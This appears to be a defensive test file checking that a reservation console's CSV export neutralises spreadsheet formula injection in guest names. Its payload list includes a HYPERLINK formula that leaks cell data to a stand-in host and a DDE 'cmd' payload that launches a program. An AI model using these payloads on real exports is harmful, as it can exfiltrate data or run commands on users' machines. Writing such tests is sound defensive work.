// Round 30: a guest name typed in the console's Change (any text but control characters and card
// numbers) reaches the calls CSV as that caller's guest_name. A name starting with =, +, -, @, a
// tab or a CR (a formula, or one an importer would run once it trims the start) is a cell that starts
// with a quote in the export. Real HTTP, SQLite, a real signed call that booked.

import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../helpers/app.ts';
import { bearer, fillWithCalls, startStaffApp } from '../staff/staff-helpers.ts';

/** The cells of a CSV line (quoted cells with "" inside; no line breaks inside the cells tested). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("((?:[^"]|"")*)"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]!);
  return out;
}

describe('a name changed at the desk, in the calls CSV', () => {
  let t: TestApp;
  let token: string;
  let booked: { callSid: string; id: number };
  beforeAll(async () => {
    t = await startStaffApp();
    token = await bearer(t);
    const calls = await fillWithCalls(t);
    const r = (await t.db.get<{ id: number }>('SELECT id FROM reservations WHERE call_sid = ?', [calls.booked]))!;
    booked = { callSid: calls.booked, id: r.id };
  });
  afterAll(() => t.close());

  const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Ana")', '+1+cmd|\'/c calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '\u200B=1+1'];

  it.each(FORMULAS)('%j is changed in, and exported defused', async (name) => {
    const changed = await request(t.baseUrl).post(`/api/reservations/${booked.id}/change`).set('Authorization', `Bearer ${token}`).send({ guestName: name });
    // Refused (400) or taken: either way no cell of the export may run.
    expect(changed.status).toBeLessThan(500);
    const csv = await request(t.baseUrl).get('/api/calls.csv').set('Authorization', `Bearer ${token}`).expect(200);
    const [header, ...rows] = csv.text.split('\r\n').filter(Boolean);
    const nameAt = cells(header!).indexOf('guest_name');
    const row = rows.find((r) => r.startsWith(booked.callSid))!;
    const cell = cells(row)[nameAt]!;
    if (changed.status === 200) expect(cell.startsWith("'")).toBe(true);
    // A phone number (+1212…) is a number, not a formula.
    for (const c of cells(row)) expect(c, c).not.toMatch(/^[\s\u200B]*[=@]|^[\s\u200B]*[+-](?![\d ]+$)/u);
  });
});
